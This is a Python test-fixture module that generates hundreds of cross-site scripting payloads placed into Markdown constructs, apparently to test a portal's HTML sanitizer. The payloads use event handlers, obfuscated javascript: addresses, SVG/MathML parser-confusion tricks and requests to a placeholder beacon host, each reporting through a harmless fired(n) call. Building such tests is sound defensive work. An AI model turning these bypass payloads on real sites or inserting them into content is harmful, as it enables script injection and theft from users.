"""Script payloads: vectors × encodings × the places of Markdown that they are put into.

Every payload calls ``fired(its number)`` or asks ``https://beacon.invalid/its number`` when it
runs. Written for this portal from the HTML standard (parsing, event handlers, ``javascript:``
addresses) and the CommonMark specification.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import cycle

#: What a payload asks for that needs no script to do harm; nobody answers there.
BEACON = "https://beacon.invalid/"
#: The name of an image that the portal holds.
IMAGE = "0123456789abcdef.png"
#: Ends whatever a payload may have left open, so that the next one is read as markup again.
CLOSER = (
    "</textarea></style></script></title></noscript></template></xmp></select></svg></math>"
    "</button></form></a></p>-->"
)
#: Fails at once and without a request.
_NOWHERE = "x:"


@dataclass(frozen=True, slots=True)
class Payload:
    """``text`` is Markdown; ``markup`` what is hostile in it, on one line where ``is_short``.

    ``classes`` name the vector, the encoding and the place. One that is not ``is_live`` needs a
    rewriting that goes wrong, or does something else than run.
    """

    number: int
    text: str
    markup: str
    classes: tuple[str, str, str]
    is_live: bool = True

    @property
    def vector(self) -> str:
        return self.classes[0]

    @property
    def is_short(self) -> bool:
        return len(self.markup) < 100 and not set("\n\r\f\t\0") & set(self.markup)


# (element, its attributes, the event): the reader of the tests brings every event about.
_HANDLERS = (
    *(("img", f"src={_NOWHERE}", "error"), ("image", f"src={_NOWHERE}", "error")),
    *(("video", f"src={_NOWHERE}", "error"), ("audio", f"src={_NOWHERE}", "error")),
    *(("svg", "", "load"), ("iframe", "", "load"), ("style", "", "load")),
    *(("details", "open", "toggle"), ("ruby", "", "paste"), ("object", "data=x:", "error")),
    *(("input", "autofocus", "focus"), ("textarea", "autofocus", "focus")),
    *(("select", "autofocus", "focus"), ("div", "contenteditable autofocus", "focus")),
    *(("link", "rel=stylesheet href=x:", "error"), ("script", "src=x:", "error")),
    *(("p", "", "click"), ("b", "tabindex=0", "focus"), ("button", "", "pointerenter")),
    *(("a", "href=#", "mouseover"), ("code", "", "copy"), ("math", "", "click")),
    *(("form", "", "submit"), ("section", "", "dblclick"), ("meter", "", "wheel")),
    *(("dialog", "open", "cancel"), ("canvas", "", "contextmenu"), ("p", "", "keydown")),
)

_SCRIPT_ADDRESS = {
    "plain": "javascript:{js}",
    "case": "jAvAsCrIpT:{js}",
    "tab": "java\tscript:{js}",
    "tab-entity": "java&#9;script:{js}",
    "line-entity": "java&NewLine;script:{js}",
    "control-entity": "&#1;javascript:{js}",
    "space-entity": "&#32;javascript:{js}",
    "colon-entity": "javascript&colon;{js}",
    "letters-entity": "&#x6a;&#97;vascript:{js}",
    "percent": "javascript:%66ired({n})",
    "comment": "javascript:/*https://example.org/*/{js}",
    "line-percent": "javascript://example.org/%0a{js}",
}
_CARRIERS = {
    "a": '<a href="{address}">x</a>',
    "a-target": '<a target=_self href="{address}" title=x>x</a>',
    "area": '<map name=m{n}><area href="{address}"></map>',
    "form": '<form action="{address}"><button>x</button></form>',
    "formaction": '<form><button formaction="{address}">x</button></form>',
    "iframe": '<iframe src="{address}"></iframe>',
    "svg-a": '<svg><a xlink:href="{address}"><text y=9>x</text></a></svg>',
    "svg-href": '<svg><a href="{address}"><text y=9>x</text></a></svg>',
    "link": "[x]({address})",
    "link-with-title": '[x]({address} "title")',
    "link-in-angles": "[x](<{address}>)",
    "link-on-code": "[`0x80070005`]({address})",
    "reference": "[x][r{n}]\n\n[r{n}]: {address}",
}

#: Vectors that are Markdown themselves: in a place of their own only.
_MARKDOWN = frozenset(
    ("link", "link-with-title", "link-in-angles", "link-on-code", "reference", "image")
)

_IMAGE = f"<img src={_NOWHERE} onerror=fired({{n}})>"
_SPECIAL = {
    "script": "<script>{js}</script>",
    "script-module": "<script type=module>{js}</script>",
    "script-data": '<script src="data:text/javascript,{js}"></script>',
    "script-svg": "<svg><script>{js}</script></svg>",
    "script-svg-entity": "<svg><script>&#102;ired({n})</script></svg>",
    "script-svg-href": '<svg><script href="data:text/javascript,{js}"/></svg>',
    "srcdoc": "<iframe srcdoc='<script>top.{js}</script>'></iframe>",
    "srcdoc-entity": '<iframe srcdoc="&lt;img src=x: onerror=top.{js}&gt;"></iframe>',
    "iframe-data": '<iframe src="data:text/html,<script>{js}</script>"></iframe>',
    "object-data": '<object data="data:text/html,<script>{js}</script>"></object>',
    "embed-data": '<embed src="data:text/html,<script>{js}</script>">',
    "animation": "<svg><animate attributeName=x dur=1s onbegin={js}></svg>",
    "source": "<video><source onerror={js} src=x:></video>",
    "shadow": f"<div><template shadowrootmode=open>{_IMAGE}</template></div>",
    "noscript": f'<noscript><p title="</noscript>{_IMAGE}">',
    "svg-style": f"<svg><style>{_IMAGE}</style></svg>",
    "svg-title": f"<svg><title>{_IMAGE}</title></svg>",
    "svg-desc": f"<svg><desc>{_IMAGE}</desc></svg>",
    "svg-foreign": f"<svg><foreignObject>{_IMAGE}</foreignObject></svg>",
    "math-text": f"<math><mtext>{_IMAGE}</mtext></math>",
    "math-annotation": f"<math><annotation-xml encoding=text/html>{_IMAGE}</math>",
    "math-style": f"<math><mtext><table><mglyph><style><!--</style>{_IMAGE}--></table></math>",
    "style-end": f"<style>p{{}}</style >{_IMAGE}",
    "title-end": f'<title><p title="</title>{_IMAGE}"></title>',
    "textarea-end": f'<textarea><p title="</textarea>{_IMAGE}"></textarea>',
    "xmp-end": f'<xmp><p title="</xmp>{_IMAGE}"></xmp>',
    "comment-short": f"<!-->{_IMAGE}-->",
    "comment-bang": f"<!-- x --!>{_IMAGE}-->",
    "cdata": f"<![CDATA[ > {_IMAGE} ]]>",
    "processing": f"<?x > {_IMAGE} ?>",
    "declaration": f"<!x> {_IMAGE}",
    "end-tag": f"</x y='>'>{_IMAGE}",
    "table": f"<table><tr>{_IMAGE}<td>x</table>",
    "nested-a": f'<a href="https://example.org/"><a href="#">{_IMAGE}</a></a>',
    "broken-quote": f'<img """>{_IMAGE}">',
    "double-angle": f"<{_IMAGE}",
    "greater-in-attribute": f'<p title="a>b">{_IMAGE}</p>',
    "unclosed": "<img src=x: onerror={js} x",
    "duplicate": "<img src=x: onerror={js} onerror=0>",
    "beacon-image": f'<img src="{BEACON}{{n}}">',
    "beacon-srcset": f'<img srcset="{BEACON}{{n}} 1x">',
    "beacon-style": f'<style>@import "{BEACON}{{n}}";</style>',
    "beacon-background": f'<p style="background:url({BEACON}{{n}})">x</p>',
    "beacon-sheet": f'<link rel=stylesheet href="{BEACON}{{n}}">',
    "beacon-iframe": f'<iframe src="{BEACON}{{n}}"></iframe>',
    "beacon-script": f'<script src="{BEACON}{{n}}"></script>',
    "beacon-video": f'<video src="{BEACON}{{n}}" autoplay></video>',
    "beacon-form": f'<form action="{BEACON}{{n}}"><button>x</button></form>',
    "image": f"![x]({BEACON}{{n}})",
}
_REWRITTEN = {
    "math-form": f"<form><math><mtext></form><form><mglyph><style></math>{_IMAGE}</style></form>",
    "autolink": "<javascript:{js}>",
    "comment-in-title": f"<a href='https://example.org' title='<!--&quot;>{_IMAGE}-->'>x</a>",
    "comment-in-abbr": f"<abbr title='<!--&quot;&apos;>{_IMAGE}-->'>x</abbr>",
    "comment-in-address": f"<a href='https://example.org/<!--&quot;>{_IMAGE}-->'>x</a>",
    "backtick": "<abbr title='`` onmouseover={js} ``'>x</abbr>",
    "nul": "<im\0g src=x: one\0rror={js}>",
    "wide": "＜img src=x: onerror={js}＞",
    "escaped-twice": "&amp;lt;img src=x: onerror={js}&amp;gt;",
    "escaped": "&lt;img src=x: onerror={js}&gt;",
    "long-s": "<ſcript>{js}</ſcript>",
    "vbscript": "[x](vbscript:{js})",
    "data": "[x](data:text/html,<script>{js}</script>)",
    "attribute-list": 'x {{: onclick="{js}" }}',
    "sentinels": f"\x02{_IMAGE}\x03",
    "redirect": f'<meta http-equiv=refresh content="0;url={BEACON}{{n}}">',
    "base": f'<base href="{BEACON}{{n}}/">',
}

PLACES = {
    "paragraph": "Avant {x} après",
    "block": "{x}",
    "bullet": "- Un\n- {x}",
    "step": "1. Ouvrez {x}.\n   1. Puis {x}.",
    "cell": "| a | b |\n| --- | --- |\n| {x} | `x` |",
    "heading": "### Titre {x}",
    "quotation": "> {x}",
    "alert": "> [!WARNING]\n> {x}",
    "alert-title": "> [!NOTE] {x}\n> Lisez.",
    "alert-kind": "> [!{x}]\n> Lisez.",
    "strong-message": "L’erreur **{x}** s’affiche.",
    "quoted-message": "Le message « {x} impossible » s’affiche.",
    "code": "Lancez `{x}`.",
    "fence": "```html\n{x}\n```",
    "fence-info": "```{x}\nx\n```",
    "image-text": f"![{{x}}](/media/{IMAGE})",
    "image-title": "![x](x: '{x}')",
    "link-text": "[{x}](https://example.org)",
    "link-title": "[x](https://example.org '{x}')",
    "html-in-list": "- Un\n\n  <div>{x}</div>",
}


def _handlers() -> Iterator[tuple[str, str, str]]:
    for tag, attributes, event in _HANDLERS:
        space = " " if attributes else ""
        for name, write in _HANDLER_ENCODINGS.items():
            yield f"{tag}-on{event}", name, write(tag, space + attributes, f"on{event}")


def _slashed(attributes: str) -> str:
    """The attributes with slashes between them, and their values in quotes."""
    return re.sub(r"=(\S+)", r'="\1"', attributes).replace(" ", "/")


_Write = Callable[[str, str, str], str]
_HANDLER_ENCODINGS: dict[str, _Write] = {
    "bare": lambda tag, rest, event: f"<{tag}{rest} {event}={{js}}>x</{tag}>",
    "case": lambda tag, rest, event: f"<{tag.title()}{rest} {event.title()}={{js}}>x</{tag}>",
    "slashes": lambda tag, rest, event: f"<{tag}{_slashed(rest)}/{event}='{{js}}'>x</{tag}>",
    "entities": lambda tag, rest, event: (
        f'<{tag}{rest} {event}="&#102;&#x69;red&lpar;{{n}}&rpar;">x</{tag}>'
    ),
    "lines": lambda tag, rest, event: f"<{tag}\n{event}\n=\n'{{js}}'{rest}>x</{tag}>",
    "escape": lambda tag, rest, event: f"<{tag} {event}=\\u0066ired({{n}}){rest}>x</{tag}>",
}


def _links() -> Iterator[tuple[str, str, str]]:
    for carrier, markup in _CARRIERS.items():
        for name, address in _SCRIPT_ADDRESS.items():
            if carrier in _MARKDOWN and ("\t" in address or ("&" in address and "ref" in carrier)):
                continue  # no address to Markdown either
            if carrier == "iframe":
                address = address.replace("{js}", "top.{js}").replace("%66", "top.%66")
            yield carrier, name, markup.replace("{address}", address)


def _make() -> Iterator[Payload]:
    number = 0
    places = cycle(PLACES.items())
    html = [*_handlers(), *((name, "plain", text) for name, text in _SPECIAL.items())]
    forms = [(*form, 2) for form in html] + [(*form, 1) for form in _links()]
    rewritten = [(name, "rewritten", text, 3) for name, text in _REWRITTEN.items()]
    for vector, encoding, markup, times in [*forms, *rewritten]:
        for _ in range(1 if vector == "beacon-form" else times):  # one at a time leaves a page
            number += 1
            place, frame = ("block", "{x}") if vector in _MARKDOWN else next(places)
            written = markup.replace("{js}", "fired({n})").replace("{n}", str(number))
            written = written.replace("{{", "{").replace("}}", "}")
            yield Payload(
                number,
                frame.replace("{x}", written),
                written,
                (vector, encoding, place),
                encoding != "rewritten",
            )


PAYLOADS: tuple[Payload, ...] = tuple(_make())
